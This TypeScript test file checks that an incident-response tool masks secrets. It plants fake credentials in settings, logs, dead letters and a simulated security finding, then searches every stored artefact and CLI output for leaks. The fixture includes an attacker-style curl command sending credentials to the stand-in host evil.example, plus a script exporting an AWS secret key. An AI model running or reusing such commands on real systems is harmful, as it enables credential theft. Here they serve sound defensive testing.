import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { historyToJSON } from '@temporalio/common/lib/proto-utils.js';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { runFirebreak } from '../cli/test/run-firebreak.ts';
import { findTemporalCli } from '../local/binaries/find.ts';
import { startChild } from '../local/child.ts';
import { freePortBase } from '../local/ports.ts';
import { startTemporalServer, type TemporalServer } from '../local/temporal-server.ts';
import { digestOf } from '../model/digest.ts';
import { searchAttributes } from '../model/temporal-names.ts';
import { folderHistories } from '../runtime/kept-histories.ts';
import { taskQueues } from '../runtime/task-queues.ts';
import { demonstrationServices } from '../sandbox/scenario/demonstration.ts';
import { steadily } from './faults/support/steadily.ts';
import { type Scenario, seedScenario } from './support/scenario.ts';
import { type Analyst, startSystem, type System } from './support/system.ts';

let temporal: TemporalServer;
let databaseFolder: string;
let system: System;
let ana: Analyst;
beforeAll(async () => {
  // A server of its own, whose file can be looked into.
  databaseFolder = await mkdtemp(join(tmpdir(), 'firebreak-database-'));
  const { path: cli } = await findTemporalCli({ log: (line) => console.error(line) });
  const databaseFile = join(databaseFolder, 'temporal.db');
  temporal = await startTemporalServer({
    cli,
    databaseFile,
    port: await freePortBase(),
    searchAttributes,
    log: () => {},
  });
  system = await startSystem({ TEMPORAL_ADDRESS: temporal.address, FIREBREAK_QUIET_WINDOW_SECONDS: '0' });
  ana = await system.addAnalyst('ana');
});
const closers: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).toReversed()) await close();
});
afterAll(async () => {
  await system.close();
  await temporal.stop();
  await rm(databaseFolder, { recursive: true, force: true });
});

/** What was planted, by where. */
const planted = new Map<string, string>();

/** A secret that nothing else says, for that place. */
function plant(place: string, prefix = 'Pw-'): string {
  const secret = `${prefix}${randomBytes(18).toString('hex')}`;
  planted.set(place, secret);
  return secret;
}

/** One process of the system with all that it says. */
async function startProcess(name: string, ...args: readonly string[]): Promise<void> {
  const program = fileURLToPath(new URL('../cli/main.ts', import.meta.url));
  const environment = {
    ...system.environment,
    TEMPORAL_ADDRESS: system.address,
    FIREBREAK_LOG_LEVEL: 'debug',
    FIREBREAK_ARCHIVE_EVERY_SECONDS: '1',
  };
  const spec = { name, program, args: [...args, '--state-dir', system.stateDir], environment };
  await mkdir(system.paths.logs, { recursive: true });
  const child = await startChild(spec, join(system.paths.logs, `${name}.log`));
  closers.push(() => child.stop());
}

/** The service of a scenario, with secrets in its settings. */
function plantInSettings({ service, badRevision }: Scenario): void {
  const [description] = demonstrationServices(system.sandbox.control.now());
  const own = JSON.parse(JSON.stringify(description).replaceAll('checkout-api', service)) as typeof description;
  const revisions = own!.revisions.map((revision) => ({
    ...revision,
    ...(revision.name === badRevision && {
      command: ['/usr/bin/mysqldump'],
      args: [`-p${plant('settings: attached argument')}`, '--api-key', plant('settings: argument')],
      env: { PLAIN: plant('settings: variable') },
    }),
  }));
  system.sandbox.control.seedService({ ...own!, revisions, labels: { 'db-password': plant('settings: label') } });
}

/** Log lines of the compromised revision, with secrets. */
function plantInLogs({ service, badRevision }: Scenario): void {
  const url = `https://api.example/v1?access_token=${plant('log: request')}`;
  const payloads = [
    { textPayload: `connecting with password=${plant('log: text')}` },
    { textPayload: JSON.stringify({ headers: [{ name: 'Authorization', value: plant('log: JSON in a text') }] }) },
    { textPayload: `PATH=/bin\0DB=${plant('log: environment')}\0` },
    { httpRequest: { requestMethod: 'GET', requestUrl: url, status: 200 } },
  ];
  const labels = { service_name: service, location: 'europe-west1', revision_name: badRevision };
  system.sandbox.control.putLogEntries(
    payloads.map((payload, index) => ({
      logName: 'projects/rhea-prod-4421/logs/run.googleapis.com%2Fstdout',
      resource: { type: 'cloud_run_revision', labels },
      timestamp: system.sandbox.control.now() - 5_000 - index,
      severity: 'DEFAULT' as const,
      insertId: `planted-${index}`,
      labels: { token: plant(`log: label ${index}`) },
      ...payload,
    })),
  );
}

/** The scenario's notification, with secrets wherever an attacker or a program may have left them. */
function withSecrets({ notification }: Scenario): Scenario['notification'] {
  const [first, ...rest] = notification.finding['processes'] as Record<string, unknown>[];
  const pair = (name: string, place: string) => `${name}=${plant(place)}`;
  const process = {
    ...first,
    args: [
      'curl',
      '-u',
      `bob:${plant('argument: user')}`,
      '--password',
      plant('argument: after its option'),
      `"--token\\u003d${plant('argument: encoded')}"`,
      `https://app:${plant('argument: URL')}@evil.example/x?sig=${plant('argument: signature')}`,
      plant('argument: token', 'ghp_'),
    ],
    script: {
      contents: `#!/bin/sh\nexport AWS_SECRET_ACCESS_KEY=${plant('script')}\nmysql -u root -p${plant('script: mysql')}\n`,
    },
    envVariables: [{ name: 'KEY', val: plant('environment: as documented') }],
  };
  return {
    ...notification,
    finding: {
      ...notification.finding,
      description: `Run with Authorization: Bearer ${plant('description')}`,
      nextSteps: `Revoke ${plant('next steps: token', 'glpat-')}`,
      externalUri: `https://console.example/?key=${plant('external URI')}`,
      processes: [process, ...rest],
      indicator: { uris: [`http://evil.example/${plant('indicator: token', 'xoxb-1234567890-')}`] },
      sourceProperties: {
        ...(notification.finding['sourceProperties'] as object),
        env: pair('A', 'environment: env as a text'),
        Environ: pair('A', 'environment: Environ'),
        environ: [pair('A', 'environment: environ')],
        envp: [pair('A', 'environment: envp'), pair('B', 'environment: envp, second')],
        env_vars: { A: plant('environment: env_vars') },
        environment: { A: plant('environment: environment') },
        envs: [{ name: 'A', value: plant('environment: envs') }],
        started: [pair('A', 'environment: any key'), pair('B', 'environment: any key, second')],
        Db_Password: plant('property'),
      },
      securityMarks: { marks: { 'api-key': plant('mark') } },
    },
  };
}

/** Also what stands in base64 in a text, to any depth. */
function decoded(text: string): string {
  const inside = [...text.matchAll(/[A-Za-z0-9+/_-]{16,}={0,2}/g)]
    .map(([base64]) => Buffer.from(base64, 'base64').toString())
    .filter((inner) => /^[\x20-\x7e\s]{12,}$/.test(inner.slice(0, 40)));
  return inside.length === 0 ? text : [text, ...inside.map(decoded)].join('\n');
}

async function filesIn(folder: string): Promise<[string, string][]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
  return Promise.all(paths.map(async (path): Promise<[string, string]> => [path, await readFile(path, 'latin1')]));
}

async function histories(): Promise<[string, string][]> {
  const found: [string, string][] = [];
  const query = `TaskQueue = '${taskQueues(system.configuration.taskQueuePrefix).cases}'`;
  for await (const { workflowId, runId } of system.client.workflow.list({ query })) {
    const history = await system.client.workflow.getHandle(workflowId, runId).fetchHistory();
    found.push([`history of ${workflowId}`, JSON.stringify(historyToJSON(history))]);
  }
  return found;
}

async function outputs(caseId: string, letter: string): Promise<[string, string][]> {
  const commands = [
    ['case', caseId],
    ['case', caseId, '--json'],
    ['cases', '--json'],
    ['audit', 'replay', caseId, '--json'],
    ['dead-letters', 'list'],
    ['dead-letters', 'show', letter],
    ['dead-letters', 'show', letter, '--json'],
    ['dead-letters', 'retry', letter],
  ];
  const said: [string, string][] = [];
  for (const command of commands) {
    const { stdout, stderr } = await runFirebreak([...command, '--state-dir', system.stateDir], {
      ...system.environment,
      TEMPORAL_ADDRESS: system.address,
    });
    said.push([command.join(' '), stdout + stderr]);
  }
  return said;
}

test('no secret of a finding, its settings, its logs or a dead letter is anywhere once its case is contained', async () => {
  const { control } = system.sandbox;
  const scenario = seedScenario(system.sandbox);
  const { caseId } = scenario;
  plantInSettings(scenario);
  plantInLogs(scenario);
  const notification = withSecrets(scenario);
  await startProcess('intake', 'intake');
  await startProcess('worker', 'worker');
  await startProcess('archive', 'worker', '--role', 'archive');
  control.publish(notification);
  // The same news once more, with what SCC's own API would leave out.
  const unknown = { environ: [`A=${plant('unknown field')}`], cmdline: `tool --secret ${plant('unknown text')}` };
  const again = { ...notification, finding: { ...notification.finding, ...unknown } };
  control.publishRaw(JSON.stringify(again));
  const broken = { ...notification, finding: { ...notification.finding, eventTime: `token=${plant('dead letter')}` } };
  control.publishRaw(JSON.stringify(broken), { token: plant('dead letter: attribute') });
  control.publishRaw(`password=${plant('dead letter: no JSON')}`);
  control.publishRaw(JSON.stringify(notification).slice(0, -1));

  await system.approve(await system.until(caseId, ['proposed']), ana, 'evict');
  const view = await system.until(caseId, ['contained', 'failed']);
  expect(view.state).toBe('contained');
  await system.client.workflow.getHandle(caseId).result();
  const kept = folderHistories(system.configuration.archive.folder);
  await steadily('the history is kept', async () => ((await kept.cases()).includes(caseId) ? true : undefined));
  const letters = await steadily('three dead letters', async () => {
    const names = await readdir(system.paths.deadLetters);
    return names.length === 3 ? names : undefined;
  });

  const files = [...(await filesIn(system.stateDir)), ...(await filesIn(databaseFolder))];
  const [runs, said] = [await histories(), await outputs(caseId, letters[0]!.slice(0, 16))];
  // Logs and dead letters again, after the commands.
  const everything = [...files, ...runs, ...said, ...(await filesIn(system.stateDir))].map(
    ([where, text]) => [where, decoded(text)] as const,
  );
  const leaks = [...planted].flatMap(([place, secret]) =>
    everything.flatMap(([where, text]) => (text.includes(secret.slice(-36)) ? [`${place} in ${where}`] : [])),
  );
  expect(leaks).toEqual([]);
  expect(planted.size).toBeGreaterThan(35);

  const marked = everything
    .flatMap(([where, text]) => (/\[masked sha256:[0-9a-f]{16}/.test(text) ? [where] : []))
    .join('\n');
  for (const place of [
    '/evidence/',
    '/archive/',
    '/dead-letters/',
    'history of',
    'temporal.db',
    `case ${caseId}`,
    'dead-letters show',
  ])
    expect(marked).toContain(place);
  const originals = runs.flatMap(([, text]) => decoded(text).match(/(?<="originalSha256":")[0-9a-f]{64}/g) ?? []);
  expect([digestOf(notification), digestOf(again)]).toContain(originals[0]);
});
